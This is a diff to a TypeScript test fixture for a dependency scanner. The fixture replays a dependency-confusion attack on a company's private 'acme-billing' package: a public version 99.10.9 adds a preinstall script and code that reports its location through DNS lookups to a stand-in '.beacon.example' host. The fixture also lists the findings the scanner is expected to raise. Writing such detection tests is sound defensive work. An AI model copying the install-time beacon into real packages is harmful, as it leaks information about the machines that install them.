@@ -1,5 +1,5 @@
 import type { Replay } from '../replay.js'
-import { replayUpgrade } from '../upgrade.js'
+import { onVersion, type PackageFinding } from '../upgrade.js'
 
 const billing = `'use strict'
 
@@ -29,19 +29,46 @@ labels.forEach((label, at) => {
 
 const inIndex = { file: 'index.js', line: "dns.lookup(at + '.' + label + '.beacon.example', () => {})" } as const
 
-export const replay: Replay = replayUpgrade({
+const name = 'acme-billing'
+const own = 'https://npm.acme.example/acme-billing/-/acme-billing-1.4.0.tgz'
+const policy = { '.github/lockwarden.yml': "version: 1\ninternal: { patterns: ['acme-*'] }\n" }
+
+const findings: readonly PackageFinding[] = [
+  ['beacon-added', 'high', inIndex],
+  ['capability-added', 'high', inIndex],
+  ['install-script-added', 'high', { file: 'package.json' }],
+  ['version-jump', 'high'],
+  ['network-host-added', 'medium', inIndex],
+]
+
+export const replay: Replay = {
   description:
     "Someone publishes the name of a company's private package with a version above all that the company will ever have, and the " +
     'installer that asks both registries takes the higher one. It says where it was installed by names that it looks up.',
   date: '2021-02',
-  name: 'acme-billing',
-  from: ['1.4.0', { files: { 'index.js': billing } }],
-  to: ['99.10.9', { manifest: { scripts: { preinstall: 'node index.js' } }, files: { 'index.js': beacon } }],
-  findings: [
-    ['beacon-added', 'high', inIndex],
-    ['capability-added', 'high', inIndex],
-    ['install-script-added', 'high', { file: 'package.json' }],
-    ['version-jump', 'high'],
-    ['network-host-added', 'medium', inIndex],
-  ],
-})
+  packages: {
+    [name]: {
+      '1.4.0': { files: { 'index.js': billing } },
+      '99.10.9': { manifest: { scripts: { preinstall: 'node index.js' } }, files: { 'index.js': beacon } },
+    },
+  },
+  base: {
+    manifest: { dependencies: { [name]: '>=1.4.0' } },
+    locked: { [name]: { version: '1.4.0', resolved: own } },
+    files: policy,
+  },
+  head: { manifest: { dependencies: { [name]: '>=1.4.0' } }, locked: { [name]: '99.10.9' }, files: policy },
+  expected: {
+    verdict: 'flagged',
+    findings: [
+      ...findings.map((finding) => onVersion(name, '99.10.9', finding)),
+      {
+        rule: 'internal-name-public',
+        severity: 'critical',
+        package: name,
+        file: 'package-lock.json',
+        line: /^"resolved": ".*acme-billing-99\.10\.9\.tgz",$/,
+      },
+    ],
+  },
+}
